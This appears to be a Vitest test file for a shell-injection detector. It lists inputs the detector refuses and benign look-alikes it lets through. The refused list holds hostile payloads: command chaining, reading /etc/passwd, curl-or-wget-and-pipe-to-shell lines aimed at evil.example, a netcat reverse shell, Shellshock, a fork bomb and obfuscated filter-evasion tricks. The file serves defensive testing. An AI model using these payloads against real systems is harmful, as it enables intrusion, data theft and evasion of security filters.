/** Command lines in every dress, and sentences that hold the same words and signs. */
import { describe, expect, test } from 'vitest'
import type { Field } from '../model/request.ts'
import { asked } from './fixtures/asked.ts'
import { leading, readers, runners, unmistakable } from './shell/commands.ts'
import { shell } from './shell.ts'

describe('refused', () => {
  test.each<[text: string, field?: Partial<Field>]>([
    ['127.0.0.1; whoami'],
    ['x&lt;curl http://evil.example/a'],
    ['127.0.0.1 | cat /etc/passwd'],
    ['x && wget http://evil.example/a'],
    ['x\nid'],
    ['$(uname -a)'],
    ['a`id`'],
    ['127.0.0.1 `id; uname -a`'],
    ['127.0.0.1 `curl evil.example | sh` and'],
    ['x=1 and `curl evil.example | sh` and more'],
    ['`curl evil.example | sh`'],
    ['Run `a` and; cat /etc/hosts'],
    ["w'h'oami; w'h'oami"],
    [';w\\hoami'],
    ['; cat$IFS/etc/hosts'],
    [';{cat,/etc/hosts}'],
    ['|/???/c?t /etc/hosts'],
    ['() { :;}; echo x'],
    ['<!--#exec cmd="ls"-->'],
    ['& ping -n 10 127.0.0.1'],
    ['x|powershell -enc AAAA'],
    ['nc -e /bin/sh 10.0.0.1 4444'],
    ['/bin/cat /etc/hosts'],
    ['; sleep 5'],
    ['%3B%20whoami'],
    [';sudo id'],
    ['|| curl evil.example'],
    ['nohup ifconfig'],
    ['strace -f whoami'],
    ['a=nc&&$a -nlvp 555'],
    ['/etc/pas[s]wd'],
    ['{,ifconfig}'],
    ['$SHELL -c "echo hi"'],
    ['$' + '{PATH:0:1}etc'],
    ['f(){ f|f& };f'],
    ['alias ll="ls -l"'],
    ['cu$@rl evil.example'],
    ["'wh'oami"],
    [';python3.11 -c x'],
    [';`cat<<<who`'],
    ['& for %a in (a,b) do del %a'],
    ['if "%1" == "" (exit /b 1)'],
    ['if exist c:\\x.txt del c:\\x.txt'],
    ['|iwr http://evil.example/a.ps1'],
    ['Invoke-WebRequest http://evil.example/a.ps1'],
    ['kubectl exec -it pod -- sh', { place: 'header', name: 'user-agent' }],
  ])('%s', (...[text, field]) => {
    expect(asked(shell, text, field)).not.toBeNull()
  })
})

test('firmware in base64, in lines of any usual length, whatever its lines begin with', () => {
  for (const [width, end] of [
    [64, '\n'],
    [76, '\r\n'],
  ] as const) {
    const words = [...leading, ...runners, ...unmistakable, ...readers].filter((word) => /^\w+$/.test(word))
    const lines = words.flatMap((word) =>
      [`${word}/`, `${word}+`].map((begin) => begin.padEnd(width, 'Qx7+k0Lz/')),
    )
    expect(asked(shell, `${lines.join(end)}${end}QUJD`)).toBeNull()
  }
})

describe('passes', () => {
  test.each<[text: string, field?: Partial<Field>]>([
    ['bread; cut the cheese'],
    ['fei&apos;sh'],
    ['&quot;id&quot;: &quot;a&quot;'],
    ['{ shops(like: "ad=y.qq.com;au=/n/albums") { id } }'],
    ['systemInfo', { part: 'name', name: 'systemInfo', place: 'body' }],
    ['cats & dogs'],
    ['R&D, date & time'],
    ['a && b || c'],
    ['run `ls` to see files'],
    ['Run `sudo apt update && sudo apt install curl` and reboot.'],
    ['Use `cat file | grep word` to find a word.'],
    ['First run `make clean; make all`.'],
    ['| name | value |\n| a | b |'],
    ['Dear all,\nfind the readings below.\nDate: today'],
    ['text/html;q=0.9, */*;q=0.8'],
    ['color: red; font: 12px'],
    ['https://volcano.example/?id=1&sort=date&find=x'],
    ['Python; Perl; Ruby'],
    ['time; place; persons'],
    ['AT&T; IBM'],
    ['$(document).ready(go)'],
    ['MySQL> select'],
    ['cat'],
    ['if x == y then alert the team (all of them)'],
    ['find me later'],
    ['it costs $5 (or less)'],
    ['kill the lights; sleep well'],
    ['if (a == b) return c'],
    ['if the door exists and is open, call me'],
    ['for 5 % in (all) cases'],
    ["the word 'cat' is in it"],
    ['{1,2,3}'],
    ['{"a":[1,2]}'],
    ['$' + '{name}, hello'],
    ['nice day, time to go'],
    ['Error: x\n    at https://cdn.example/a.js:1:2\n    at b (c.js:1)'],
    ['ansible is nice'],
    ['python-requests/2.31.0', { place: 'header', name: 'user-agent' }],
    ['time flies; watch out'],
    ['whoami is a command'],
    ['git and docker'],
    ['x = a | b;'],
  ])('%s', (...[text, field]) => {
    expect(asked(shell, text, field)).toBeNull()
  })
})
